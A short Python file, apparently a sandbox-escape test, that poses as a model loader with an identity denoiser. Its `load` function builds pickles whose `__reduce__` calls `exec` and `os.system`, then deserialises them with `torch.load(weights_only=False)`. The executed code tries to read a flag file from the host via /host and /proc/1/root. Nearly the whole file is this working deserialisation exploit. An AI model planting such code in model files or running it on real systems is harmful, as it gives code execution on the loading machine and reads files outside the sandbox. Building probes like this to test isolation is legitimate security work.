"""Weights whose unpickling runs code: a shell command, and Python that reads what lies outside."""

import io
import json
import os
import pickle

import torch

CODE = """
for root in ("", "/host", "/proc/1/root"):
    try:
        print(open(root + {flag!r}).read())
    except OSError as error:
        print("stopped:", error)
"""


class Bomb:
    def __init__(self, call, *arguments):
        self.call = call, arguments

    def __reduce__(self):
        return self.call


class Model:
    def denoise(self, noisy):
        return noisy


def load(folder, device):
    world = json.loads((folder / "world.json").read_text())
    bombs = [
        Bomb(exec, CODE.format(flag=world["flag_path"])),
        Bomb(os.system, f"cat {world['flag_path']} /host{world['flag_path']}"),
    ]
    for bomb in bombs:
        modern = io.BytesIO()
        torch.save({"weight": bomb}, modern)
        for weights in (modern.getvalue(), pickle.dumps(bomb)):
            try:
                torch.load(io.BytesIO(weights), weights_only=False)
            except Exception as error:
                print("loaded:", type(error))
    return Model()
